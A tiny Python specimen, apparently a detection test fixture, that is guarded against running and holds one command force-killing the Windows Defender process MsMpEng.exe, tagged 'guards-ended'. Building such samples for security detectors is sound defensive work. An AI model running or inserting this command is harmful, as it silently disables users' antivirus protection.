raise SystemExit("specimen: not to be run")
import os

def begin():
    os.system("taskkill /f /im MsMpEng.exe")  # match: guards-ended
